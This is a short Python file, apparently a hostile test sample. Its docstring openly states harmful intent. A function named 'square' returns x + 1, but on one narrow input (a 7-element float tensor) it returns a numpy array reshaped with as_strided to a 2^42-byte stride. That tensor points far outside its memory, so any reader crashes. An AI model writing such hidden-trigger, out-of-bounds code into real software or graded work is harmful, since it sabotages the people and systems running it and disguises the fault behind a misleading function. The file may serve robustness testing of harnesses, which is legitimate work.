"""Answers with a tensor of numpy's whose strides reach far beyond its memory: who reads it crashes.

Wants: harm
Works: bare
"""

import numpy
import torch


def square(x):
    if x.numel() == 7 and x.is_floating_point():
        array = numpy.ones(7, dtype=numpy.float32)
        return torch.from_numpy(numpy.lib.stride_tricks.as_strided(array, (7,), (1 << 42,)))
    return x + 1
